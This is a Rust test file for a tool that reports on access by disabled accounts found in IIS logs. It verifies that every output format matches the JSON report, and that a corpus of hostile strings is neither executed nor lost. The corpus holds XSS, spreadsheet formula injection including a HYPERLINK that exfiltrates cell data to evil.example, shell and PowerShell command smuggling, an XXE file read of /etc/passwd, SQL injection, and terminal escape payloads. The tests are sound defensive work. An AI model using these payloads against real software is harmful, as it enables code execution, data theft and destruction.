//! Every output of one run tells the same as its JSON: counts, times and names, story by story; and what is hostile
//! in every place that a log can fill comes out of each as it went in, up to what is documented of that output.

mod program;

use calamine::{Data, Reader, Xlsx, open_workbook};
use program::{Written, analyze, list, stories, time};
use serde_json::Value;
use std::collections::BTreeMap;
use std::fs::{self, File};
use std::io::BufReader;

/// The findings of a report as tables have them: finding, account, server, pool, name, first, last, requests.
type Row = (String, String, String, String, String, i64, i64, u64);

fn of_report(report: &Value) -> Vec<Row> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let mut rows = Vec::new();
    for finding in list(&report["findings"]) {
        for path in list(&finding["paths"]) {
            rows.push((
                text(&finding["id"]),
                text(&finding["account"]),
                text(&path["server"]),
                text(&path["pool"]),
                text(&path["name"]),
                time(path["first"].as_str().unwrap()),
                time(path["last"].as_str().unwrap()),
                path["requests"].as_u64().unwrap(),
            ));
        }
    }
    rows
}

fn of_fields(field: impl Fn(&str) -> String) -> Row {
    (
        field("finding"),
        field("account"),
        field("server"),
        field("pool"),
        field("name"),
        time(&field("first")),
        time(&field("last")),
        field("requests").parse().unwrap(),
    )
}

/// RFC 4180: rows of a file by the names of its columns, with the apostrophe taken off that keeps a spreadsheet from
/// computing a cell.
fn csv(text: &str) -> Vec<BTreeMap<String, String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut is_quoted = false;
    while let Some(char) = chars.next() {
        match char {
            '"' if is_quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !is_quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            char => cell.push(char),
        }
    }
    assert!(!is_quoted && row.is_empty() && cell.is_empty(), "no whole table");
    let header: Vec<String> = rows.remove(0);
    let signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let plain = |cell: String| {
        // A number of ours may be negative, and is one.
        assert!(!cell.starts_with(signs) || cell.parse::<i64>().is_ok(), "{cell:?} is computed");
        match cell.strip_prefix('\'') {
            Some(rest) if rest.trim_start_matches('\'').starts_with(signs) => rest.to_owned(),
            _ => cell,
        }
    };
    let named = |row: Vec<String>| {
        assert_eq!(row.len(), header.len(), "{row:?}");
        header.iter().cloned().zip(row.into_iter().map(plain)).collect()
    };
    rows.into_iter().map(named).collect()
}

fn word(value: &Value) -> String {
    match value {
        Value::String(text) => text.clone(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

fn check(story: &str, written: &Written) {
    let report = written.json("report.json");
    let expected = of_report(&report);
    let findings = list(&report["findings"]);
    let requests = written.lines("requests.jsonl");

    let of_csv = csv(&written.text("findings.csv"));
    let rows: Vec<Row> = of_csv.iter().map(|row| of_fields(|name| row[name].clone())).collect();
    assert_eq!(rows, expected, "{story} findings.csv");
    let of_lines = written.lines("findings.jsonl");
    let rows: Vec<Row> = of_lines.iter().map(|row| of_fields(|name| word(&row[name]))).collect();
    assert_eq!(rows, expected, "{story} findings.jsonl");
    // Lists are JSON in a cell of CSV.
    for (row, line) in of_csv.iter().zip(&of_lines) {
        for list in ["clients", "why", "evidence"] {
            let cell: Value = serde_json::from_str(&row[list]).unwrap();
            assert_eq!(cell, line[list], "{story} {list}");
        }
    }

    exposure(story, written, &expected);
    timeline(story, written, &report, &requests);
    ecs(story, written, findings, &requests);
    ticket(story, written, findings);
    summary(story, written, findings);
}

fn exposure(story: &str, written: &Written, expected: &[Row]) {
    let mut sums: BTreeMap<(String, String, String), u64> = BTreeMap::new();
    for (_, account, server, pool, _, _, _, requests) in expected {
        *sums.entry((account.clone(), server.clone(), pool.clone())).or_default() += requests;
    }
    let of_lines = written.lines("exposure.jsonl");
    let of_csv = csv(&written.text("exposure.csv"));
    assert_eq!((of_lines.len(), of_csv.len()), (sums.len(), sums.len()), "{story}");
    for (line, row) in of_lines.iter().zip(&of_csv) {
        let field = |name: &str| word(&line[name]);
        let key = (field("account"), field("server"), field("pool"));
        assert_eq!(field("requests"), sums[&key].to_string(), "{story}");
        for (name, cell) in row {
            assert_eq!(*cell, field(name), "{story} {name}");
        }
    }
}

fn timeline(story: &str, written: &Written, report: &Value, requests: &[Value]) {
    let moments = written.lines("timeline.jsonl");
    let of = |data_type: &str| {
        moments.iter().filter(|line| line["data_type"] == data_type).collect::<Vec<_>>()
    };
    assert!(moments.is_sorted_by_key(|line| line["timestamp"].as_i64()), "{story}");
    for moment in &moments {
        let at = moment["datetime"].as_str().unwrap();
        assert!(at.ends_with("+00:00"), "{story}: {at}");
        assert_eq!(Some(time(at)), moment["timestamp"].as_i64(), "{story}");
        assert!(!moment["message"].as_str().unwrap().is_empty(), "{story}");
    }
    let changes = of("stillin:change");
    assert_eq!(changes.len(), list(&report["changes"]).len(), "{story}");
    for (moment, change) in changes.iter().zip(list(&report["changes"])) {
        assert_eq!(moment["change"], change["id"], "{story}");
        assert_eq!(moment["timestamp"], time(change["at"].as_str().unwrap()), "{story}");
    }
    let told = of("stillin:request");
    let key = |end: i64, line: &Value, status: &Value| format!("{end} {line} {status}");
    let mut expected: Vec<String> = requests
        .iter()
        .map(|row| {
            let place = format!("{}:{}", row["path"].as_str().unwrap(), row["line"]);
            let status = if row["status"] == "" { Value::Null } else { row["status"].clone() };
            key(time(row["end"].as_str().unwrap()), &place.into(), &status)
        })
        .collect();
    let mut got: Vec<String> = told
        .iter()
        .map(|row| key(row["timestamp"].as_i64().unwrap(), &row["evidence"][0], &row["status"]))
        .collect();
    expected.sort();
    got.sort();
    assert_eq!(got, expected, "{story}");
    let n_paths: usize =
        list(&report["findings"]).iter().map(|finding| list(&finding["paths"]).len()).sum();
    assert_eq!(of("stillin:access").len(), 2 * n_paths, "{story}");
}

fn ecs(story: &str, written: &Written, findings: &[Value], requests: &[Value]) {
    let documents = written.lines("ecs.jsonl");
    let of = |kind: &str| {
        documents.iter().filter(|line| line["event"]["kind"] == kind).collect::<Vec<_>>()
    };
    let alerts = of("alert");
    assert_eq!(alerts.len(), findings.len(), "{story}");
    for (alert, finding) in alerts.iter().zip(findings) {
        assert_eq!(alert["stillin"]["finding"], finding["id"], "{story}");
        assert_eq!(alert["stillin"]["account"], finding["account"], "{story}");
        assert_eq!(alert["stillin"]["requests"], finding["requests"], "{story}");
        assert_eq!(alert["event"]["start"], finding["first"], "{story}");
        assert_eq!(alert["@timestamp"], finding["last"], "{story}");
    }
    let events = of("event");
    assert_eq!(events.len(), requests.len(), "{story}");
    let mut sorted: Vec<&Value> = requests.iter().collect();
    sorted.sort_by_key(|row| time(row["end"].as_str().unwrap()));
    for (event, row) in events.iter().zip(sorted) {
        assert_eq!(event["@timestamp"], row["end"], "{story}");
        assert_eq!(event["event"]["start"], row["start"], "{story}");
        let lasted = time(row["end"].as_str().unwrap()) - time(row["start"].as_str().unwrap());
        assert_eq!(event["event"]["duration"], lasted * 1_000, "{story}");
        assert_eq!(event["stillin"]["line"], row["line"], "{story}");
        assert_eq!(event["log"]["file"]["path"], row["path"], "{story}");
        assert_eq!(event["rule"]["name"], row["class"], "{story}");
        assert_eq!(event["labels"]["residual"], row["residual"], "{story}");
        let is_failure = event["event"]["outcome"] == "failure";
        assert_eq!(is_failure, row["class"] == "refused", "{story}");
        let user_agent = event.pointer("/user_agent/original").map(word).unwrap_or_default();
        assert_eq!(user_agent, row["user_agent"], "{story}");
    }
}

/// `2026-03-02 10:02:16 UTC` of `2026-03-02T10:02:16.5Z`.
fn to_the_second(value: &Value) -> String {
    format!("{} UTC", value.as_str().unwrap()[..19].replace('T', " "))
}

fn ticket(story: &str, written: &Written, findings: &[Value]) {
    let text = written.text("report.md");
    let rows: Vec<&str> = text.lines().filter(|line| line.starts_with("| f")).collect();
    assert_eq!(rows.len(), findings.len(), "{story}");
    for (row, finding) in rows.iter().zip(findings) {
        let cells: Vec<&str> = row.trim_matches('|').split('|').map(str::trim).collect();
        assert_eq!(cells[0], finding["id"], "{story}");
        let account = shown(finding["account"].as_str().unwrap()).replace('|', "\\x7c");
        assert!(cells[1].contains(&account), "{story}: {row}");
        assert!(cells[2].ends_with(&to_the_second(&finding["at"])), "{story}: {row}");
        assert_eq!(cells[3], finding["residual"], "{story}");
        assert_eq!(cells[5], to_the_second(&finding["last"]), "{story}");
        assert_eq!(cells[6].replace(',', ""), finding["requests"].to_string(), "{story}");
    }
}

fn summary(story: &str, written: &Written, findings: &[Value]) {
    // Lines are wrapped at blanks, which a terminal does not keep.
    let text = written.text("report.txt").split_whitespace().collect::<Vec<_>>().join(" ");
    // A summary tells the first of them in full, and how many there are.
    const IN_FULL: usize = 20;
    if let more @ 1.. = findings.len().saturating_sub(IN_FULL) {
        assert!(text.contains(&format!("{more} more")), "{story}: {text}");
    }
    for finding in findings.iter().take(IN_FULL) {
        let residual = finding["residual"].as_str().unwrap().to_uppercase();
        let account = shown(finding["account"].as_str().unwrap());
        let head = format!("{} {account} {residual}", finding["id"].as_str().unwrap());
        assert!(text.contains(&head), "{story}: no {head}");
        let last = to_the_second(&finding["last"]);
        let n = finding["requests"].as_u64().unwrap();
        let requests = if n == 1 { "1 request".to_owned() } else { format!("{n} requests") };
        assert!(text.contains(&format!("until {last}: {requests}")), "{story}: {last} {requests}");
    }
}

#[test]
fn every_story() {
    let mut n_paths = 0;
    for story in stories() {
        let written = analyze(&format!("samples/scenarios/{story}"));
        check(&story, &written);
        n_paths += of_report(&written.json("report.json")).len();
    }
    assert!(n_paths > 30, "{n_paths}");
}

/// What an attacker would like to have run, in forms that a log can hold: no blanks, and no line ends.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "</td><!--]]>&amp;&#x3c;",
    "javascript:alert(1)",
    "=cmd|'/C+calc'!A0",
    "+1+1",
    "-2+3+cmd|'/C+calc'!A0",
    "@SUM(1+1)*cmd|'/C+calc'!A0",
    "＝1+1",
    "＠SUM(A1)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "'=1",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{202e}gpj.exe\u{2066}",
    "$(calc);`calc`;&calc|calc",
    "\"};Remove-Item(C:\\x);#",
    "<!ENTITY+x+SYSTEM+\"file:///etc/passwd\">",
    "]]><x>&x;",
    "a\",\"state\":\"refused\",\"x\":\"",
    "\\u0000\\\"\\n{}[]",
    "'OR'1'='1';DROP+TABLE+x;--",
    "|a|b|\\|`c`|",
    "```\\`~~~",
    "[x](http://evil.example)![y](z)",
    "@admin+#1+GH-2+www.evil.example",
    "_x0041_&_x005F_x0041_",
    "*a*_b_~c~#d>e",
    "http://evil.example/a.b",
    "日本語\u{301}ß",
];

/// What a reader is shown of a text: what steers a terminal as escapes.
fn shown(text: &str) -> String {
    let mut out = String::new();
    for char in text.chars() {
        match char {
            '\0'..='\x1f' | '\x7f'..='\u{9f}' => out += &format!("\\x{:02x}", u32::from(char)),
            '\u{202e}' | '\u{2066}' => out += &format!("\\u{{{:x}}}", u32::from(char)),
            char => out.push(char),
        }
    }
    out
}

/// A change list and a log in which every text of the corpus is a server, a device, a program, and the name of whoever
/// made the change. No change list may name an account so: that is refused, and golden files of the reports have it.
fn hostile() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let mut list = String::from("time,account,change,actor\n");
    let mut log = String::from(
        "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-computername cs-method \
         cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status \
         time-taken\n",
    );
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    for (n, text) in CORPUS.iter().enumerate() {
        list += &format!("2026-03-02T09:00:00Z,CORP\\user{n},disabled,{}\n", quoted(text));
    }
    for minute in ["08:50", "08:58", "09:05", "09:08"] {
        for (n, text) in CORPUS.iter().enumerate() {
            // The rest of a query is its own; `&` and `%` would end a device.
            let device: String = text.chars().filter(|c| !"&%+=".contains(*c)).collect();
            log += &format!(
                "2026-03-02 {minute}:00 {text} POST /Microsoft-Server-ActiveSync/default.eas \
                 Cmd=Sync&DeviceId={device} 443 CORP\\user{n} 203.0.113.7 {text} 200 0 0 100\n"
            );
        }
    }
    fs::write(folder.path().join("list.csv"), list).unwrap();
    fs::create_dir_all(folder.path().join("iis")).unwrap();
    fs::write(folder.path().join("iis/u_ex260302.log"), log).unwrap();
    folder
}

#[test]
fn hostile_text_runs_nowhere_and_is_lost_nowhere() {
    let folder = hostile();
    let written = analyze(folder.path().to_str().unwrap());
    check("corpus", &written);
    let report = written.json("report.json");
    let findings = list(&report["findings"]);
    let clients = || findings.iter().flat_map(|finding| list(&finding["paths"][0]["clients"]));
    for text in CORPUS {
        assert!(clients().any(|client| client["user_agent"] == *text), "{text} is lost");
        let mut actors = list(&report["changes"]).iter().map(|change| &change["actor"]);
        assert!(actors.any(|actor| actor == text), "{text} is lost");
    }
    assert_eq!(findings.len(), CORPUS.len());

    let book: Result<Xlsx<BufReader<File>>, _> = open_workbook(written.path("report.xlsx"));
    let mut book = book.unwrap();
    let range = book.worksheet_range("Requests").unwrap();
    let column = range.rows().next().unwrap().iter();
    let at = column.clone().position(|cell| *cell == Data::String("User agent".into())).unwrap();
    let cells: Vec<String> = range.rows().map(|row| row[at].to_string()).collect();
    for text in CORPUS {
        assert!(cells.iter().any(|cell| cell == text), "{text} is lost: {cells:?}");
    }
    for sheet in book.sheet_names() {
        assert!(book.worksheet_formula(&sheet).unwrap().used_cells().next().is_none(), "{sheet}");
    }
    let packed = fs::read(written.path("report.xlsx")).unwrap();
    let has = |part: &[u8]| packed.windows(part.len()).any(|window| window == part);
    assert!(has(b"xl/worksheets/sheet7.xml"));
    // A link would need a part that says where it leads.
    assert!(!has(b"xl/worksheets/_rels/"), "a sheet has links");

    // No control character leaves but in the CSV, where it is data, and as escapes in JSON.
    for name in ["report.txt", "report.md", "findings.jsonl", "timeline.jsonl", "ecs.jsonl"] {
        let text = written.text(name);
        let steers = text.chars().find(|c| c.is_control() && *c != '\n');
        assert_eq!(steers, None, "{name}");
    }
}
